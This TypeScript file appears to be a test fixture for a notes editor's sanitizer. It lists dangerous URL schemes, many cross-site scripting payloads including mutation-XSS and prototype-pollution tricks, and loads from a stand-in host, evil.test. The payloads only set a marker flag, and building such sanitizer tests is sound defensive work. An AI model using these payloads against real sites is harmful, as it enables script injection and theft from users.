/** What somebody might write into a note to make it do something on a colleague's screen. */

const run = "window.ran=1";
const schemes = ["javascript", "JaVaScRiPt", "java\tscript", " javascript", "vbscript", "data"];

/** Addresses that must never be followed. */
export const addresses: readonly string[] = [
  ...schemes.map((scheme) => `${scheme}:${run}`),
  ...schemes.map((scheme) => `${scheme}:text/html,<script>${run}</script>`),
  `javascript://x/%0A${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `\u0001javascript:${run}`,
  `\u202Ejavascript:${run}`,
  `blob:http://notes.localhost/1`,
  `file:///etc/passwd`,
  `filesystem:http://notes.localhost/x`,
  `//evil.test/x`,
  `https://evil.test/x" onclick="${run}`,
  `https:/\\evil.test`,
  "about:blank",
  "intent://x#Intent;end",
  "ms-msdt:/id",
];

const handlers = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle"] as const;

/** Markup that does something in a careless page. */
export const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=//evil.test/x></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=//evil.test/pixel>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${run}>"></use></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<base href="//evil.test/">`,
  `<link rel=stylesheet href="//evil.test/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<style>@import "//evil.test/x.css";</style>`,
  `<p style="background:url(//evil.test/x)">x</p>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="https://a.cn" target="_top" onclick="${run}">x</a>`,
  `<a href="https://a.cn" ping="//evil.test/">x</a>`,
  `<p data-look="strong" onclick="${run}">x</p>`,
  `<span data-mention="client" data-id="x" data-label="<img src=x onerror=${run}>">x</span>`,
  `<span data-mention="__proto__" data-id="01ARZ3NDEKTSV4RRFFQ69G5FAV" data-label="x">x</span>`,
  `<div data-pm-slice="0 0 [&quot;hologram&quot;,null]">x</div>`,
  `<div data-pm-slice='9 9 ["list_item",{"__proto__":{"x":1}}]'><p>x</p></div>`,
  `<li data-check="true"><script>${run}</script></li>`,
  `<h1 data-level="9">x</h1>`,
  "{{constructor.constructor('window.ran=1')()}}",
  `\${window.ran=1}`,
  `"><img src=x onerror=${run}>`,
  `';${run};//`,
  `</textarea><script>${run}</script>`,
  `]]><script>${run}</script>`,
  ...handlers.map((handler) => `<p ${handler}=${run} tabindex=0>x</p>`),
  ...handlers.map((handler) => `<x ${handler}=${run}>x</x>`),
];

/** Names that a part, a look or an attribute of one might be given. */
export const names: readonly string[] = [
  ...["script", "iframe", "img", "svg", "style", "object", "base", "meta", "form", "x-evil"],
  ...["constructor", "__proto__", "prototype", "toString", "hasOwnProperty", "doc", "text"],
  ...handlers,
  ...["style", "class", "href", "src", "srcdoc", "formaction", "innerHTML", "is", "ref"],
];
